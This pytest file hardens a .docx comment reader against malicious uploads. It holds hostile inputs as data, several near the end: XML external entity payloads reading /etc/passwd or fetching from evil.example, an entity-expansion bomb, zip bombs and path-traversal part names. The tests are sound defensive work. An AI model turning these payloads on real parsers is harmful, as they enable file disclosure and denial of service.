"""A Word document that comes back is a stranger's: whatever is in it ends with a problem or with words."""

from __future__ import annotations

import contextlib
import io
import zipfile
from pathlib import Path

import pytest

from brief.comments import as_lines, package, read_comments
from brief.comments.package import UnreadableError, read_parts
from brief.comments.reading import read
from brief.problems import BriefError
from tests.comments.revising import W, repacked
from tests.comments.test_comments import BRIDGE, FROM_LIBREOFFICE, fresh


def refused(tmp_path: Path, content: bytes) -> str:
    """Return the rule by which a file is refused; anything but one problem is a failure."""
    path = tmp_path / "back.docx"
    path.write_bytes(content)
    with pytest.raises(BriefError) as caught:
        read_comments(path, BRIDGE)
    (problem,) = caught.value.problems
    assert problem.place is not None
    assert problem.place.file.endswith("back.docx")
    return problem.rule


def with_document(xml: str) -> bytes:
    """Return a package with another document in it."""
    return repacked(fresh(), {"word/document.xml": xml})


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        (b"", "broken-docx"),
        (b"%PDF-1.7", "broken-docx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4_000, "broken-docx"),  # as Word locks a file with a password
        (b"PK\x03\x04" + b"\xff" * 300, "broken-docx"),
    ],
    ids=["empty", "a PDF", "locked", "noise"],
)
def test_what_is_no_package_is_refused(tmp_path: Path, content: bytes, rule: str) -> None:
    """A file of another kind, or a locked one, is told as what it is."""
    assert refused(tmp_path, content) == rule


def test_a_file_cut_off_anywhere_is_refused(tmp_path: Path) -> None:
    """Half of a download is no document, wherever it ends."""
    whole = FROM_LIBREOFFICE.read_bytes()
    for part in range(1, 12):
        assert refused(tmp_path, whole[: len(whole) * part // 12]) == "broken-docx"


def test_damaged_bytes_end_with_a_problem_or_with_words(tmp_path: Path) -> None:
    """A byte that is another than it was breaks a part or changes a word, and never the program."""
    whole = FROM_LIBREOFFICE.read_bytes()
    path = tmp_path / "back.docx"
    for place in range(11, len(whole), len(whole) // 40):
        path.write_bytes(whole[:place] + bytes([whole[place] ^ 0x5A]) + whole[place + 1 :])
        with contextlib.suppress(UnreadableError):
            read(read_parts(path.read_bytes()))


def test_a_zip_of_something_else_is_refused(tmp_path: Path) -> None:
    """A package without a document is no Word document."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
    assert refused(tmp_path, stream.getvalue()) == "not-a-docx"


@pytest.mark.parametrize(
    "xml",
    [
        '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><w>&b;</w>',
        '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w>&x;</w>',
        '<!DOCTYPE w SYSTEM "http://evil.example/w.dtd"><w/>',
        "<w>&undefined;</w>",
        "<w><w></w>",
        "",
    ],
    ids=["entities", "a file", "a document type", "undefined", "unclosed", "nothing"],
)
def test_xml_that_declares_anything_is_refused(tmp_path: Path, xml: str) -> None:
    """No entity is unfolded and nothing outside is asked for."""
    assert refused(tmp_path, with_document(xml)) == "broken-docx"


def test_a_part_that_unpacks_to_too_much_is_refused(tmp_path: Path) -> None:
    """A few kilobytes cannot fill the memory: no more is unpacked than is allowed."""
    bomb = with_document("<w>" + " " * (package.MAX_PART + 10) + "</w>")
    assert len(bomb) < 400_000
    assert refused(tmp_path, bomb) == "too-large"


def test_an_entry_that_lies_about_its_size_is_bounded_all_the_same(tmp_path: Path) -> None:
    """What an entry says of its size is not believed."""
    bomb = with_document("<w>" + " " * (package.MAX_PART + 10) + "</w>")
    size = (package.MAX_PART + 17).to_bytes(4, "little")
    assert bomb.count(size) >= 1
    assert refused(tmp_path, bomb.replace(size, (100).to_bytes(4, "little"))) in ("too-large", "broken-docx")


def test_depth_number_and_length_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Elements in elements, too many of them, and too many parts each end with the problem that names a bound."""
    deep = f"<w:document xmlns:w='{W}'>" + "<w:r>" * 5_000 + "</w:r>" * 5_000 + "</w:document>"
    assert refused(tmp_path, with_document(deep)) == "too-large"
    many = {f"word/x{number}.xml": "" for number in range(package.MAX_ENTRIES)}
    assert refused(tmp_path, repacked(fresh(), many)) == "too-large"
    monkeypatch.setattr(package, "MAX_ELEMENTS", 1_000)
    with pytest.raises(UnreadableError):
        read_parts(with_document(f"<w:document xmlns:w='{W}'>" + "<w:r/>" * 2_000 + "</w:document>"))


def test_a_document_with_too_many_words_is_refused(tmp_path: Path) -> None:
    """Five million characters are more than any brief has."""
    words = f"<w:p><w:r><w:t>{'word ' * 20_000}</w:t></w:r></w:p>" * 55
    assert (
        refused(tmp_path, with_document(f"<w:document xmlns:w='{W}'><w:body>{words}</w:body></w:document>"))
        == "too-large"
    )


def test_relations_to_the_outside_are_never_followed(tmp_path: Path) -> None:
    """A template, a picture or a comment somewhere else is not asked for; what is inside is read as it is."""
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://x/template" Target="http://evil.example/t.dotm" TargetMode="External"/>'
        '<Relationship Id="rId2" Type="http://x/comments" Target="file:///etc/passwd" TargetMode="External"/>'
        "</Relationships>"
    )
    path = tmp_path / "back.docx"
    path.write_bytes(repacked(fresh(), {"word/_rels/document.xml.rels": rels}))
    assert read_comments(path, BRIDGE).entries == ()


def test_names_of_parts_lead_nowhere(tmp_path: Path) -> None:
    """Nothing is written when a document is read, whatever its parts are called."""
    path = tmp_path / "inner" / "back.docx"
    path.parent.mkdir()
    path.write_bytes(repacked(fresh(), {"../../evil.txt": "x", "/etc/evil": "x", "word/../../up.xml": "x"}))
    assert read_comments(path, BRIDGE).entries == ()
    assert sorted(each.name for each in tmp_path.rglob("*")) == ["back.docx", "inner"]


def test_bookmarks_and_ranges_that_make_no_sense_are_words(tmp_path: Path) -> None:
    """Ends before starts, names of others, ids twice: nothing is believed that the brief does not have."""
    xml = (
        f"<w:document xmlns:w='{W}'><w:body><w:p>"
        "<w:bookmarkEnd w:id='7'/><w:bookmarkStart w:id='1' w:name='KJ1_statement'/>"
        "<w:bookmarkStart w:id='1' w:name='../../x'/><w:commentRangeEnd w:id='3'/><w:commentRangeStart w:id='3'/>"
        "<w:ins w:author='\u202e&#10;' w:date='soon'><w:r><w:t>new</w:t></w:r></w:ins><w:bookmarkEnd w:id='1'/>"
        "<w:moveTo><w:r><w:t/></w:r></w:moveTo></w:p></w:body></w:document>"
    )
    comments = f"<w:comments xmlns:w='{W}'><w:comment w:id='3'/><w:comment/><w:comment w:id='99'/></w:comments>"
    path = tmp_path / "back.docx"
    path.write_bytes(repacked(fresh(), {"word/document.xml": xml, "word/comments.xml": comments}))
    outcome = read_comments(path, BRIDGE)
    assert outcome.after == outcome.before
    assert len(outcome.entries) == 4
    assert all("\u202e" not in line for line in as_lines(outcome))
